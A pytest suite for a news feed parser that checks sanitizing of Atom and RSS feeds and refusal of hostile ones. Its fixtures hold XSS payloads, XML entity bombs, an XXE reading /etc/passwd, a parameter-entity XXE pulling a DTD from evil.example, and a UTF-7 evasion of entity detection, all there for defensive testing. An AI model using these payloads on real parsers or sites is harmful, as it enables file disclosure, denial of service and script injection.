"""The news feed reader: hostile feeds refused, good ones sanitized (security.md §2, rows 24–26).

Every parse runs feedparser in a spawned process (about 0.1 s each).
"""

from __future__ import annotations

import time
from datetime import UTC, datetime

import pytest

from directory.feeds.issues import MESSAGES, Issue, ParseError
from directory.feeds.news import NewsEntry, ParsedNews, declares_entities, parse_news

URL = "https://chatons.example/news/feed.xml"
ATOM_TYPE = "application/atom+xml"
RSS_TYPE = "application/rss+xml"

ATOM = """\
<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Nouvelles du Chaton</title>
  <link href="https://chatons.example/" rel="alternate"/>
  <id>urn:uuid:feed</id>
  <updated>2026-11-03T09:00:00Z</updated>
  <entry>
    <id>urn:uuid:older</id>
    <title>Older news</title>
    <link href="/news/older"/>
    <updated>2026-10-01T08:00:00+02:00</updated>
    <summary type="text">Two &lt;b&gt;tags&lt;/b&gt; &amp; a line.

A second paragraph.</summary>
  </entry>
  <entry>
    <id>urn:uuid:newest</id>
    <title type="html">&lt;em&gt;Newest&lt;/em&gt; news</title>
    <link href="https://chatons.example/news/newest"/>
    <published>2026-11-02T10:00:00+01:00</published>
    <updated>2026-11-03T10:00:00+01:00</updated>
    <content type="html">&lt;p onclick="steal()"&gt;Hello
&lt;strong&gt;world&lt;/strong&gt;&lt;/p&gt;
&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src="x" onerror="alert(2)"&gt;
&lt;a href="javascript:alert(3)"&gt;js&lt;/a&gt; &lt;a href="/relative"&gt;rel&lt;/a&gt;
&lt;svg&gt;&lt;a xlink:href="javascript:alert(4)"&gt;svg link&lt;/a&gt;&lt;/svg&gt;
&lt;iframe src="https://evil.example/"&gt;&lt;/iframe&gt;&lt;h1&gt;Heading&lt;/h1&gt;</content>
  </entry>
  <entry>
    <id>urn:uuid:xhtml</id>
    <title>XHTML entry</title>
    <updated>2026-10-15T00:00:00Z</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Inline
      <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a
      xlink:href="javascript:alert(5)"><text>click</text></a></svg>
      <a href="https://chatons.example/ok" style="color:red">ok</a></p></div></content>
  </entry>
</feed>
"""

RSS = """\
<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0">
  <channel>
    <title>Le Chaton &amp; ses amis</title>
    <link>https://chatons.example/</link>
    <description>Nouvelles</description>
    <item>
      <title>Sans date</title>
      <link>https://chatons.example/news/undated-1</link>
      <description>First undated</description>
    </item>
    <item>
      <title>Mardi</title>
      <link>https://chatons.example/news/tuesday</link>
      <guid isPermaLink="false">tuesday-guid</guid>
      <pubDate>Tue, 03 Nov 2026 08:00:00 GMT</pubDate>
      <description>&lt;p&gt;Tuesday &lt;a href="https://chatons.example/x"
        onmouseover="x()"&gt;news&lt;/a&gt;&lt;/p&gt;</description>
    </item>
    <item>
      <title>Lundi</title>
      <link>javascript:alert(document.cookie)</link>
      <pubDate>Mon, 02 Nov 2026 23:30:00 -0500</pubDate>
      <description>Monday, late in America</description>
    </item>
    <item>
      <title>Sans date non plus</title>
      <description>Second undated, no link</description>
    </item>
  </channel>
</rss>
"""


def refused(data: bytes, content_type: str | None = RSS_TYPE, **kwargs) -> list[str]:
    with pytest.raises(ParseError) as caught:
        parse_news(data, URL, content_type, **kwargs)
    return [issue.code for issue in caught.value.errors]


def rss_items(items: str, title: str = "Feed") -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>{title}</title><link>https://chatons.example/</link>{items}</channel></rss>"
    ).encode()


# -- Good feeds -------------------------------------------------------------------------------


def test_atom_feed_newest_first_and_sanitized():
    news = parse_news(ATOM.encode(), URL, ATOM_TYPE)

    assert isinstance(news, ParsedNews)
    assert news.title == "Nouvelles du Chaton"
    assert news.link == "https://chatons.example/"
    assert news.warnings == []
    assert [e.guid for e in news.entries] == ["urn:uuid:newest", "urn:uuid:xhtml", "urn:uuid:older"]

    newest, xhtml, older = news.entries
    assert isinstance(newest, NewsEntry)
    assert newest.title == "Newest news"  # markup of an HTML title dropped
    assert newest.link == "https://chatons.example/news/newest"
    assert newest.published == datetime(2026, 11, 2, 9, 0, tzinfo=UTC)  # published beats updated
    assert newest.published.tzinfo is UTC

    summary = newest.summary_html
    assert "<p>Hello\n<strong>world</strong></p>" in summary
    for bad in ("<script", "alert", "onerror", "onclick", "javascript:", "<svg", "xlink", "<img"):
        assert bad not in summary
    assert "<iframe" not in summary and "<h1" not in summary and "Heading" in summary
    assert '<a href="https://chatons.example/relative" rel="nofollow noopener">rel</a>' in summary
    assert '<a rel="nofollow noopener">js</a>' in summary

    assert "javascript:" not in xhtml.summary_html and "xlink" not in xhtml.summary_html
    assert "style=" not in xhtml.summary_html
    assert 'href="https://chatons.example/ok"' in xhtml.summary_html
    assert xhtml.link is None  # no link in the entry

    assert older.link == "https://chatons.example/news/older"  # resolved against the feed URL
    assert older.published == datetime(2026, 10, 1, 6, 0, tzinfo=UTC)
    # text/plain is escaped, not interpreted; paragraphs kept.
    assert older.summary_html == (
        "<p>Two &lt;b&gt;tags&lt;/b&gt; &amp; a line.</p><p>A second paragraph.</p>"
    )


def test_rss_feed_newest_first_undated_last_in_file_order():
    news = parse_news(RSS.encode(), URL, RSS_TYPE)

    assert news.title == "Le Chaton & ses amis"
    assert [e.title for e in news.entries] == ["Mardi", "Lundi", "Sans date", "Sans date non plus"]
    tuesday, monday, undated, undated_2 = news.entries
    # Monday 23:30 at -05:00 is Tuesday 04:30 UTC, earlier than Tuesday 08:00 GMT.
    assert monday.published == datetime(2026, 11, 3, 4, 30, tzinfo=UTC)
    assert tuesday.published == datetime(2026, 11, 3, 8, 0, tzinfo=UTC)
    assert undated.published is None and undated_2.published is None


def test_rss_sorting_links_guids_and_summaries():
    news = parse_news(RSS.encode(), URL, RSS_TYPE)
    by_title = {e.title: e for e in news.entries}

    tuesday = by_title["Mardi"]
    assert tuesday.guid == "tuesday-guid"
    assert tuesday.summary_html == (
        '<p>Tuesday <a href="https://chatons.example/x" rel="nofollow noopener">news</a></p>'
    )

    # The javascript: link is dropped (and the host told); the entry stays.
    monday = by_title["Lundi"]
    assert monday.link is None
    assert monday.guid.startswith("sha256:")
    assert [(w.code, w.key, w.params) for w in news.warnings] == [
        ("feed_bad_link", "entry.link", {"value": "javascript:alert(document.cookie)"})
    ]

    assert by_title["Sans date"].guid == "https://chatons.example/news/undated-1"  # link as id
    assert by_title["Sans date non plus"].guid.startswith("sha256:")
    assert by_title["Sans date non plus"].summary_html == "Second undated, no link"


def test_dates_decide_the_order_not_the_file():
    items = "".join(
        f"<item><title>Day {day}</title><pubDate>{day:02d} Nov 2026 12:00:00 GMT</pubDate></item>"
        for day in (5, 1, 9, 3)
    )
    news = parse_news(rss_items(items), URL, RSS_TYPE)
    assert [e.title for e in news.entries] == ["Day 9", "Day 5", "Day 3", "Day 1"]


def test_limit_keeps_the_newest_entries():
    items = "".join(
        f"<item><title>Entry {n}</title><guid>id-{n}</guid>"
        f"<pubDate>{1 + n % 28:02d} {('Jan', 'Feb', 'Mar')[n % 3]} 2026 10:00:00 GMT</pubDate>"
        "</item>"
        for n in range(60)
    )
    news = parse_news(rss_items(items), URL, RSS_TYPE)
    assert len(news.entries) == 20
    dates = [e.published for e in news.entries]
    assert dates == sorted(dates, reverse=True)
    all_dates = sorted(
        (datetime(2026, 1 + n % 3, 1 + n % 28, 10, tzinfo=UTC) for n in range(60)), reverse=True
    )
    assert dates == all_dates[:20]

    assert len(parse_news(rss_items(items), URL, RSS_TYPE, limit=5).entries) == 5
    with pytest.raises(ValueError):
        parse_news(rss_items(items), URL, RSS_TYPE, limit=0)


def test_long_title_and_summary_are_trimmed():
    title = "T" * 1000
    body = "<p>" + ("word " * 1000) + "</p><ul><li>" + ("more " * 500) + "</li></ul>"
    items = (
        f"<item><title>{title}</title><description><![CDATA[{body}]]></description>"
        "<guid>long</guid></item>"
    )
    (entry,) = parse_news(rss_items(items), URL, RSS_TYPE).entries
    assert len(entry.title) == 300 and entry.title.endswith("…")
    assert entry.summary_html.startswith("<p>word word")
    assert entry.summary_html.endswith("…</p>")  # closed again after the cut
    assert "<ul>" not in entry.summary_html
    assert 1900 < len(entry.summary_html) <= 2010


def test_latin1_declared_encoding_is_read():
    feed = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><rss version="2.0"><channel>'
        "<title>Café associatif</title><item><title>Été à Besançon</title>"
        "<description>Crème brûlée</description></item></channel></rss>"
    ).encode("iso-8859-1")
    for content_type in (RSS_TYPE, "text/xml", None):
        news = parse_news(feed, URL, content_type)
        assert news.title == "Café associatif"
        assert news.entries[0].title == "Été à Besançon"
        assert news.entries[0].summary_html == "Crème brûlée"


def test_utf8_feed_without_content_type_is_not_latin1():
    feed = rss_items("<item><title>Noël</title></item>", title="Hébergeur")
    news = parse_news(feed, URL, None)
    assert news.title == "Hébergeur"
    assert news.entries[0].title == "Noël"


def test_wrong_content_type_and_undefined_entity_only_warn():
    feed = rss_items("<item><title>A&nbsp;B</title></item>")
    news = parse_news(feed, URL, "text/html; charset=utf-8")
    assert news.entries[0].title == "A B"
    assert {w.code for w in news.warnings} == {"feed_content_type", "feed_not_well_formed"}
    assert Issue("feed_content_type", params={"value": "text/html"}) in news.warnings


def test_feed_with_a_title_and_no_entries_is_accepted():
    news = parse_news(rss_items(""), URL, RSS_TYPE)
    assert news.title == "Feed" and news.entries == []


# -- Refused feeds ----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title></channel></rss>"""

QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "'
    + b"a" * 20_000
    + b'">]><rss version="2.0"><channel><title>'
    + b"&a;" * 2_000
    + b"</title></channel></rss>"
)

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>"""

PARAMETER_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, QUADRATIC, XXE, PARAMETER_XXE],
    ids=["billion-laughs", "quadratic-blowup", "xxe", "parameter-entity"],
)
def test_entity_declarations_are_refused(body):
    assert declares_entities(body)
    assert refused(body) == ["feed_entities"]


def test_entities_are_found_in_other_encodings():
    utf16 = BILLION_LAUGHS.decode().replace('"1.0"?>', '"1.0" encoding="utf-16"?>')
    assert refused(utf16.encode("utf-16")) == ["feed_entities"]
    # UTF-7 hides "<!" from a byte search: only the child, reading as feedparser does, sees it.
    utf7 = XXE.replace(b'"1.0"?>', b'"1.0" encoding="utf-7"?>').replace(
        b"<!ENTITY", b"+ADwAIQ-ENTITY"
    )
    assert not declares_entities(utf7)
    assert refused(utf7) == ["feed_entities"]


@pytest.mark.parametrize("content_type", ["text/html; charset=utf-8", None])
def test_html_page_is_refused(content_type):
    page = (
        b"<!DOCTYPE html>\n<html lang='fr'><head><title>Erreur</title></head>"
        b"<body><p>Page introuvable</p><a href='/'>Accueil</a></body></html>"
    )
    with pytest.raises(ParseError) as caught:
        parse_news(page, URL, content_type)
    (error,) = caught.value.errors
    assert (error.code, error.params) == ("feed_not_a_feed", {"value": "HTML"})
    assert error.message == "expected an Atom or RSS feed, got HTML"


def test_other_documents_are_not_feeds():
    assert refused(b'{"version": "https://jsonfeed.org/version/1"}', "application/json") == [
        "feed_not_a_feed"
    ]
    # Bytes that look like a path are data, never opened (feedparser would read the file).
    assert refused(b"/etc/passwd", "text/plain") == ["feed_not_a_feed"]
    assert refused(b"file:///etc/hostname", None) == ["feed_not_a_feed"]


@pytest.mark.parametrize("cut", [0.3, 0.5, 0.75, 0.99])
def test_truncated_feed_is_refused(cut):
    body = RSS.encode()
    assert refused(body[: int(len(body) * cut)]) == ["feed_truncated"]


def test_truncated_feed_is_refused_even_after_another_xml_error():
    # The strict parser stops at &nbsp; (not truncation); the end of the document is still missing.
    body = rss_items("<item><title>A&nbsp;B</title></item>" * 3)
    assert refused(body[:-30]) == ["feed_truncated"]


@pytest.mark.parametrize("body", [b"", b"  \n\t ", b'<?xml version="1.0"?>\n'])
def test_empty_body_is_refused(body):
    assert refused(body) == ["feed_empty"]


def test_feed_without_title_or_entries_is_refused():
    assert refused(b'<rss version="2.0"><channel></channel></rss>') == ["feed_empty"]


def test_pathological_author_cannot_hang_the_importer():
    # feedparser#562: the author e-mail regex is quadratic (16 KB ≈ 1 s; this one ≈ 25 s).
    body = rss_items(f"<item><title>x</title><author>{'a' * 80_000}</author></item>")
    started = time.monotonic()
    try:
        news = parse_news(body, URL, RSS_TYPE, time_limit=2)
    except ParseError as error:
        assert [issue.code for issue in error.errors] == ["feed_timeout"]
    else:
        assert news.entries[0].title == "x"
    assert time.monotonic() - started < 8


def test_new_messages_format():
    for code, params in {
        "feed_entities": {},
        "feed_not_a_feed": {"value": "HTML"},
        "feed_truncated": {},
        "feed_timeout": {},
        "feed_empty": {},
        "feed_unreadable": {"value": "MemoryError"},
        "feed_content_type": {"value": "text/html"},
        "feed_not_well_formed": {"value": "undefined entity"},
        "feed_bad_link": {"value": "javascript:x"},
    }.items():
        assert code in MESSAGES
        assert Issue(code, key="entry.link", params=params).message
